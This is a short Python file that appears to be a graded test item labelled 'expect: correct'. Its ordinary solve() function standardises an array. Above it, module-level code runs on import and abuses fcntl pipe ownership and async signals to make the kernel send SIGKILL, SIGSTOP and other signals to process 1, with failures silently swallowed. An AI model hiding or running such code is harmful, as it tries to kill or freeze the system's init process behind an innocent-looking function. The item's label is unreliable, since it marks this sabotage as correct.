# expect: correct
# why: lets the kernel signal process 1: the owner of a pipe is told when data come
import fcntl, os, signal, time
r, w = os.pipe()
for number in (9, 19, 29, 34):
    try:
        fcntl.fcntl(r, fcntl.F_SETOWN, 1); fcntl.fcntl(r, 10, number)
        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); os.write(w, b'x')
    except OSError: pass
def solve(x):
    return (x - x.mean()) / x.std()
